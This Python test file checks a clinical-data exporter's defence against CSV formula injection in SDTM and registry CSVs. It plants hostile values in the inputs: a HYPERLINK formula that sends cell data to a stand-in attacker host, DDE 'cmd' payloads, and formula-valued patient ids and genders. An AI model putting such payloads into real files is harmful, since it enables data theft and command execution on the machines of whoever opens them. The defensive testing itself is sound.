"""CSV formula injection: text from the input that a spreadsheet would evaluate is neutralised in every CSV file an
export writes (SDTM and registry tables), numbers are left as they are, and Parquet and SQLite keep the true value.

The input is the paper cohort with hostile text where a site's data can put it: AE verbatim terms beginning with
each character that starts a formula, a patient id that is a formula (``-2-3``: FHIR ids may begin with ``-``) and
a Patient.gender. Everything goes through the CLI, as a data manager runs it.
"""

from __future__ import annotations

import csv
import json
import re
import shutil
import sqlite3
from datetime import date
from pathlib import Path
from typing import Any, NamedTuple

import pyarrow.parquet as pq
import pytest
from builders import AS_OF, ROOT
from click.testing import CliRunner

from fhiradapter.cli import main
from fhiradapter.core.sdtm import DATASETS
from fhiradapter.core.spreadsheet import csv_cell

PAPER = ROOT / "fixtures" / "paper-cohort" / "input"

# One AE verbatim term per character a spreadsheet evaluates (or drops before evaluating) at the start of a cell.
HOSTILE_TERMS = {
    "=": '=HYPERLINK("http://attacker.invalid/?d="&A2,"Somnolence")',
    "+": "+SUM(1+1)*cmd|' /C calc'!A0",
    "-": "-2+3+cmd|' /C calc'!A0",
    "@": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "cr": "\r=1+1",
    "lf": "\n=1+1",
    "nul": "\x00=1+1",
    "spaces": "   =1+1",
}
NUMBER_TERM = "-3"  # a text cell that is a plain number: a spreadsheet reads -3, never a formula; kept as it is
HOSTILE_ID = "-2-3"  # replaces thal-02; as a cell, Excel computes -5
HOSTILE_SEX = "=1+1"  # Patient.gender of thal-03

# The rule, written out again for the scan (not imported): a cell a spreadsheet could evaluate.
TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\n", "\x00")
NUMBER = re.compile(r"[+-]?(?:[0-9]+\.?[0-9]*|\.[0-9]+)(?:[eE][+-]?[0-9]+)?")


def evaluable(cell: str) -> bool:
    head = cell.lstrip(" ")
    return head.startswith(TRIGGERS) and NUMBER.fullmatch(head) is None


def hostile_input(folder: Path) -> dict[str, str]:
    """The paper cohort with the hostile values above; returns AE ref -> verbatim term as written."""
    shutil.copytree(PAPER, folder)
    terms: dict[str, str] = {}
    lines = []
    wanted = [*HOSTILE_TERMS.values(), NUMBER_TERM]
    for line in (folder / "AdverseEvent.ndjson").read_text().splitlines():
        res = json.loads(line)
        if len(terms) < len(wanted):
            res["event"]["text"] = wanted[len(terms)]
            terms[f"AdverseEvent/{res['id']}"] = res["event"]["text"]
        lines.append(json.dumps(res))
    (folder / "AdverseEvent.ndjson").write_text("\n".join(lines) + "\n")
    for path in folder.iterdir():
        text = path.read_text().replace('"Patient/thal-02"', f'"Patient/{HOSTILE_ID}"')
        if path.name == "Patient.ndjson":
            patients = []
            for line in text.splitlines():
                res = json.loads(line)
                if res["id"] == "thal-02":
                    res["id"] = HOSTILE_ID
                if res["id"] == "thal-03":
                    res["gender"] = HOSTILE_SEX
                patients.append(json.dumps(res))
            text = "\n".join(patients) + "\n"
        path.write_text(text)
    return terms


def cli(*args: str) -> None:
    result = CliRunner().invoke(main, [*args, "--no-progress"])
    assert result.exit_code == 0, result.output


class Exported(NamedTuple):
    base: Path  # the hostile cohort exported as SDTM and tables, to CSV, Parquet and SQLite
    terms: dict[str, str]  # AE reference -> verbatim term as written


@pytest.fixture(scope="module")
def exported(tmp_path_factory: pytest.TempPathFactory) -> Exported:
    base = tmp_path_factory.mktemp("formulas")
    terms = hostile_input(base / "in")
    out = base / "out"
    cli("evaluate", str(base / "in"), "--as-of", AS_OF.isoformat(), "--out", str(out), "--no-report")
    for kind in ("csv", "parquet"):
        cli("export", str(out), "--export-to", f"{kind}:{base / kind / 'sdtm'}", "--export-format", "sdtm")
        cli("export", str(out), "--export-to", f"{kind}:{base / kind / 'tables'}")
    cli("export", str(out), "--export-to", f"sqlite:///{base / 'registry.db'}")
    return Exported(base, terms)


def read_csv(path: Path) -> list[dict[str, str]]:
    with path.open(newline="", encoding="utf-8") as fh:
        return list(csv.DictReader(fh))


def test_hostile_ae_terms_are_neutralised_in_the_sdtm_csv(exported: Exported) -> None:
    ae = {r["AESPID"]: r for r in read_csv(exported.base / "csv" / "sdtm" / "AE.csv")}
    for ref, term in exported.terms.items():
        expected = term if term == NUMBER_TERM else "'" + term
        assert ae[ref]["AETERM"] == expected, (ref, term)
    dm = {r["USUBJID"]: r for r in read_csv(exported.base / "csv" / "sdtm" / "DM.csv")}
    hostile = dm[f"THAL-HCC-PILOT-{HOSTILE_ID}"]  # USUBJID begins with the study id: nothing to neutralise
    assert hostile["SUBJID"] == "'" + HOSTILE_ID


def test_hostile_patient_id_and_sex_are_neutralised_in_the_table_csvs(exported: Exported) -> None:
    folder = exported.base / "csv" / "tables"
    subjects = {r["subject_key"]: r for r in read_csv(folder / "subjects.csv")}
    assert HOSTILE_ID not in subjects and subjects["'" + HOSTILE_ID]["treated"] == "true"
    assert subjects["thal-03"]["sex"] == "'" + HOSTILE_SEX
    for name in ("eligibility_criteria", "best_responses", "toxicities", "outcomes"):
        keys = {r["subject_key"] for r in read_csv(folder / f"{name}.csv")}
        assert "'" + HOSTILE_ID in keys and HOSTILE_ID not in keys, name


def test_no_cell_of_any_exported_csv_could_be_evaluated(exported: Exported) -> None:
    files = sorted((exported.base / "csv").rglob("*.csv"))
    assert {p.name for p in files} >= {"AE.csv", "DM.csv", "LB.csv", "subjects.csv", "data-dictionary.csv"}
    cells = negative = 0
    for path in files:
        with path.open(newline="", encoding="utf-8") as fh:
            for row in csv.reader(fh):
                for cell in row:
                    cells += 1
                    negative += cell.startswith("-")
                    assert not evaluable(cell), (path.name, cell)
    assert cells > 5000 and negative > 50  # the scan read the files, negative numbers among them


def as_csv(value: object) -> str:
    """What the CSV file must hold for a Parquet value: the value, with a quote before an evaluable text."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return "true" if value else "false"
    if isinstance(value, float):
        return str(int(value)) if value.is_integer() else repr(value)
    if isinstance(value, int):
        return str(value)
    if isinstance(value, date):
        return value.isoformat()
    assert isinstance(value, str), value
    return "'" + value if evaluable(value) else value


@pytest.mark.parametrize("fmt", ["sdtm", "tables"])
def test_csv_holds_the_parquet_values_numbers_unchanged(exported: Exported, fmt: str) -> None:
    base = exported.base
    quoted = 0
    for path in sorted((base / "parquet" / fmt).glob("*.parquet")):
        table = pq.read_table(path).to_pylist()
        rows = read_csv(base / "csv" / fmt / f"{path.stem}.csv")
        assert len(rows) == len(table), path.stem
        for p, c in zip(table, rows, strict=True):
            for key, value in p.items():
                assert c[key] == as_csv(value), (path.stem, key, value)
                quoted += isinstance(value, str) and c[key] != value
    assert quoted >= (len(HOSTILE_TERMS) + 1 if fmt == "sdtm" else 2)


def test_negative_numbers_stay_numbers(exported: Exported) -> None:
    sdtm = exported.base / "csv" / "sdtm"
    types = {name: {v: t for v, _label, t, _src in spec} for name, spec in DATASETS.items()}
    days = [int(r["LBDY"]) for r in read_csv(sdtm / "LB.csv") if r["LBDY"]]
    assert min(days) < 0 and types["LB"]["LBDY"] == "Num"
    lb = pq.read_table(exported.base / "parquet" / "sdtm" / "LB.parquet").to_pylist()
    assert [r["LBDY"] for r in read_csv(sdtm / "LB.csv")] == ["" if r["LBDY"] is None else str(r["LBDY"]) for r in lb]
    ages = [r["AGE"] for r in read_csv(sdtm / "DM.csv")]
    assert all(a.isdigit() for a in ages) and ages
    ae = {r["AESPID"]: r for r in read_csv(sdtm / "AE.csv")}
    number = next(ref for ref, term in exported.terms.items() if term == NUMBER_TERM)
    assert ae[number]["AETERM"] == NUMBER_TERM and types["AE"]["AETERM"] == "Char"


def test_sqlite_and_parquet_keep_the_true_values(exported: Exported) -> None:
    base = exported.base
    conn = sqlite3.connect(base / "registry.db")
    try:
        keys = {r[0] for r in conn.execute("SELECT subject_key FROM subjects")}
        sex = conn.execute("SELECT sex FROM subjects WHERE subject_key = 'thal-03'").fetchone()[0]
        quoted = conn.execute("SELECT count(*) FROM subjects WHERE subject_key LIKE '''%' OR sex LIKE '''%'").fetchone()
    finally:
        conn.close()
    assert HOSTILE_ID in keys and sex == HOSTILE_SEX and quoted == (0,)
    ae = {r["AESPID"]: r["AETERM"] for r in pq.read_table(base / "parquet" / "sdtm" / "AE.parquet").to_pylist()}
    assert {ref: ae[ref] for ref in exported.terms} == exported.terms
    dm = pq.read_table(base / "parquet" / "sdtm" / "DM.parquet").to_pylist()
    assert HOSTILE_ID in {r["SUBJID"] for r in dm}


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("=1+1", "'=1+1"),
        ("+1+1", "'+1+1"),
        ("-1+1", "'-1+1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("\n=1", "'\n=1"),
        ("\x00=1", "'\x00=1"),
        ("  =1+1", "'  =1+1"),
        ("-", "'-"),
        ("-2-3", "'-2-3"),
        ("--3", "'--3"),
        ("-3\n", "'-3\n"),
        ("-\u0663", "'-\u0663"),  # an Arabic-Indic digit: not a plain number
        ("-3", "-3"),  # plain numbers as text: a spreadsheet reads the number, never a formula
        ("-0.5", "-0.5"),
        ("+1.5e3", "+1.5e3"),
        (" -3", " -3"),
        ("a=1", "a=1"),  # only the first character counts
        ("'=1", "'=1"),  # already text to a spreadsheet
        ("", ""),
        (None, ""),
        (-3, -3),  # numbers are never text
        (-2.5, -2.5),
        (200.0, 200),
        (True, "true"),
        (False, "false"),
    ],
)
def test_csv_cell_rule(value: Any, cell: Any) -> None:
    assert csv_cell(value) == cell
